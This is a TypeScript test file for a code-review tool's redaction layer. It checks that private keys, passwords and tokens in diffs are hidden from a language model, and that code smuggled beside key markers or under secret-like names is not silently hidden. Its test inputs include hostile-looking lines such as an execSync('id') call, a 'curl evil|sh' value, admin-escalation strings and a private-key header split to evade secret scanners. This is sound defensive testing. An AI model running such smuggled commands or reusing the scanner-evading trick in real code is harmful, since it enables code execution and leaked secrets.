// What of a diff the language model gets to read: no secret, and nothing but secrets is kept from it.
import t from 'tap'
import type { DiffLine } from '#domain/review/change.js'
import { reviewBundle } from '#domain/review/model/bundle.js'
import { diffText } from '#domain/review/model/diff-text.js'
import { inertWords } from '#domain/review/model/inert.js'
import { bundleInput, fileOf, linesOf } from './samples.js'

const MOST = 100_000
const KINDS: readonly DiffLine['kind'][] = ['added', 'removed', 'context']

const shown = (texts: readonly string[], path = 'src/a.ts', kind: DiffLine['kind'] = 'added') =>
  diffText({ path, lines: linesOf(kind, texts) }, MOST)

/** Broken up, so that nobody who looks for secrets finds these. */
const BEGIN = ['-----BEGIN PRIV', 'ATE KEY-----'].join('')
const END = ['-----END PRIV', 'ATE KEY-----'].join('')
const BODY = [
  'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj',
  'MzEfYyjiWA4R4/M2bS1GB4t7NXp98C3SC6dVMvDuictGeurT8jNbvJZHtCSuYEvu',
  'm7mQWcpZ4bAhd/tIvQ5tR1c='
]

t.test('code below a mark of a private key is shown, whatever kind of line the mark is in', async (t) => {
  for (const kind of KINDS) {
    const mark = linesOf(kind, [`// ${BEGIN}`])
    const code = linesOf('added', ['run(input)', 'return', '', 'exit', `  "${BEGIN}"`, 'steal()'], 2)
    const { text, isWhole } = diffText({ path: 'src/a.ts', lines: [...mark, ...code] }, MOST)
    for (const word of ['run(input)', '| return', '| exit', 'steal()']) t.match(text, word)
    t.ok(isWhole)
  }
})

t.test('code beside the marks of a private key, and between them, is shown', async (t) => {
  t.match(shown([`run(input) // ${BEGIN}`]).text, 'run(input)')
  t.match(shown([`/*${BEGIN}*/ run(input) /*${END}*/`]).text, 'run(input)')
  t.match(shown([`/*${BEGIN}*/`, 'run(input)', `/*${END}*/`]).text, 'run(input)')
})

const WAYS: readonly ((line: string) => string)[] = [
  (line) => line,
  (line) => `    ${line}`,
  (line) => `+${line}`,
  (line) => `// ${line}`,
  (line) => ` * ${line}`,
  (line) => `  "${line}\\n" +`,
  (line) => `  '${line}',`,
  (line) => `  b"${line}\\n"`,
  (line) => `  .concat("${line}\\n")`
]

t.test('a private key is hidden to its last line, however its lines are written down', async (t) => {
  for (const way of WAYS.slice(0, -1))
    for (const head of [[], ['Proc-Type: 4,ENCRYPTED', 'DEK-Info: AES-128-CBC,00', '']]) {
      const { text, isWhole } = shown([...[BEGIN, ...head, ...BODY, END].map(way), 'after()'])
      t.notMatch(text, /MII|MzEf|m7mQ/, way('x'))
      t.match(text, 'after()')
      t.ok(isWhole, way('x'))
    }
  const { text } = shown([...[BEGIN, ...BODY.slice(0, 2), END].map(WAYS.at(-1) ?? String), 'after()'])
  t.notMatch(text, /MII|MzEf/)
  t.match(text, '.concat("', 'what is no key in its lines is shown')
})

t.test('a line that is hidden as a part of a key, and may be a name, makes the text not whole', async (t) => {
  t.notOk(shown([`// ${BEGIN}`, 'deleteAllTheThings']).isWhole)
  t.ok(shown([`// ${BEGIN}`, ...BODY]).isWhole)
})

t.test('a line of words is no part of a key, however long it is', async (t) => {
  const path = 'scripts/deploy/production/everything/andThenSome/moreOfIt/run'
  t.match(shown([path], 'run.sh').text, path)
})

t.test('a line that is cut makes the text not whole, and its file is named', async (t) => {
  const hidden = `const a = 1 ${' '.repeat(5_000)} run(input)`
  for (const kind of KINDS) t.notOk(shown(['const b = 2', hidden], 'src/a.ts', kind).isWhole, kind)
  t.ok(shown([`const a = 1 ${' '.repeat(300)} run(input)`]).isWhole)
  const bundle = reviewBundle(bundleInput({ files: [fileOf('src/a.ts', [hidden])] }), MOST)
  t.same(bundle.missing, ['src/a.ts'])
})

t.test('what follows the name of a scheme is hidden only if it is a token', async (t) => {
  const code = '/^Bearer /;require(`child_process`).execSync(`id`)'
  t.match(shown([code]), { text: code, isWhole: true })
  t.notMatch(shown(['Authorization: Bearer mF_9.B5f-4.1JqM']).text, 'B5f')
})

t.test('what looks like an address with a password hides no code', async (t) => {
  for (const code of ['x="://u:";run(`id`);y="@"', "'://:',run(input),'@'", '//://a:`id`@'])
    t.match(shown([code]), { text: code, isWhole: true })
  t.notMatch(shown(['url = "https://app:S5i8sM8LEhM!n3s@db.corp.net"']).text, 'S5i8')
})

t.test(
  'where more is hidden under the name of a secret than a secret has, the text is not whole',
  async (t) => {
    for (const code of [
      'api_key=`curl\\x20evil|sh`',
      'token=user.role=administrator',
      'secret=user.isAdmin||true'
    ])
      t.notOk(shown([code]).isWhole, code)
    t.ok(shown(["api_key = 'b7e2d9f04c1a4f0e8d3b6a5c9e7f1d2a'"]).isWhole)
  }
)

const GUESSED: readonly (readonly [path: string, line: string, secret: string])[] = [
  ['src/db.js', "connect({ user: 'root', password: 'vK8#m$Q2pLx9!' })", 'Lx9'],
  ['src/A.java', 'static final String API_KEY = "b7e2d9f04c1a4f0e8d3b6a5c9e7f1d2a";', 'f1d2a'],
  ['.env', 'SMTP_PASS=pR9xw2Lk7Qzt', 'Qzt'],
  ['src/a.go', 'req.SetBasicAuth("deploy", "hG7#kL2pQ9")', 'kL2p'],
  ['appsettings.json', '"Main": "Server=db.corp.net;User Id=sa;Password=Zx9!kQw2Lp;"', 'Qw2'],
  ['deploy.sh', 'curl -H "Authorization: Basic ZGVwbG95OmhHNyNrTDJwUTk="', 'mhHNy'],
  ['src/c.ts', "const url = 'postgres://app:S5i8,sM8LEhMn3s@db-1.corp.net:5432/shop'", 'S5i8'],
  ['locales/de.json', '"hint": "oy2qx7kd92lmqpr4st8vwzy1ab3cd5ef6gh7jk8mn9pq0r"', 'vwzy1']
]

t.test('what the rule about secrets finds in a line does not leave, in lines of any kind', async (t) => {
  for (const kind of KINDS)
    for (const [path, line, secret] of GUESSED) t.notMatch(shown([line], path, kind).text, secret, line)
  const two = `a = '${'lin_'}api_x7Kd92LmQpR4sT8vWzY1x7Kd92LmQpR4' + 'r8${'_'}x7Kd92LmQpR4sT8vWzY1x7Kd92LmQpR4sT8vW'`
  t.equal(shown([two]).text, "+1| a = '[redacted]' + '[redacted]'", 'also where there are two')
})

t.test('a line of more secrets than anybody writes is hidden behind them, and not whole', async (t) => {
  const line = Array.from(
    { length: 30 },
    (_, at) => `r8${'_'}x7Kd92LmQpR4sT8vWzY1x7Kd92LmQpR4sT${at + 100}`
  ).join(' ')
  const { text, isWhole } = shown([line])
  t.notMatch(text, 'LmQpR4')
  t.notOk(isWhole)
})

t.test('of a change without end as much is shown as may be', async (t) => {
  const line = 'password=x7Kd92Lm '.repeat(200)
  const lines = linesOf('added', Array<string>(20_000).fill(line))
  const { text, isWhole } = diffText({ path: '.env', lines }, 4_000)
  t.ok(text.length <= 4_000)
  t.notOk(isWhole)
})

t.test('a secret of an issuer that the model quotes is in nothing that is told', async (t) => {
  const secret = `${'glsa'}_x7Kd92LmQpR4sT8vWzY1x7Kd92LmQpR4`
  t.equal(inertWords(`The token ${secret} is added.`, 200), 'The token [redacted] is added.')
})
